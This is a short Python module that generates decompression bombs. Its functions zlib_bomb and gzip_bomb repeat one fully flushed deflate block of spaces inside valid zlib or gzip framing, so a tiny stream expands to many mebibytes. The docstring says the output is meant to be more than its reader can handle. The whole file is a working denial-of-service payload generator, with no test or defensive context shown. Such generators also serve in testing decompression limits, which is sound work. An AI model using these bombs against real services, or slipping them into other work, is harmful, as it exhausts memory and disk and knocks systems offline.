"""Compressed spaces, far more than who reads them takes. Made from one compressed piece, repeated: costs no time."""

from __future__ import annotations

import zlib

_PIECE = b" " * (1 << 20)


def zlib_bomb(mebibytes: int) -> bytes:
    """Spaces in the format of zlib."""
    check = 1
    for _ in range(mebibytes):
        check = zlib.adler32(_PIECE, check)
    return b"\x78\x01" + _deflated(mebibytes) + check.to_bytes(4, "big")


def gzip_bomb(mebibytes: int) -> bytes:
    """Spaces in the format of gzip."""
    check = 0
    for _ in range(mebibytes):
        check = zlib.crc32(_PIECE, check)
    size = mebibytes * len(_PIECE)
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    return head + _deflated(mebibytes) + check.to_bytes(4, "little") + size.to_bytes(4, "little")


def _deflated(mebibytes: int) -> bytes:
    packer = zlib.compressobj(1, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = packer.compress(_PIECE) + packer.flush(zlib.Z_FULL_FLUSH)  # refers to nothing before it
    return piece * mebibytes + packer.flush()
